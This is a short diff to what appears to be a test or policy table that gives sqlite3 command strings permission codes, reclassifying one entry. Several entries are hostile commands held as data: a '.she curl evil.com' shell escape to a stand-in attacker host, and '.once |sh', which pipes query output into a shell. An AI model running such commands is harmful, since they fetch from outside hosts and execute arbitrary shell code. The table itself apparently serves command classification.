@@ -140,7 +140,7 @@ SQLITE_PRAGMAS = [
     ("sqlite3 db.sqlite 'SELECT * FROM t'", 'AAAAD'),
     # the shell's own commands and file functions, each as it was
     ('sqlite3 db.sqlite ".she curl evil.com"', 'KKADD'),
-    ('sqlite3 db.sqlite ".once |sh" "SELECT 1"', 'KKADD'),
+    ('sqlite3 db.sqlite ".once |sh" "SELECT 1"', 'KKKDD'),  # was KKADD (round 37, editors37: a query's output run by sh)
     ('sqlite3 -safe db.sqlite "INSERT INTO t VALUES(1)"', 'KKADD'),
 ]
 
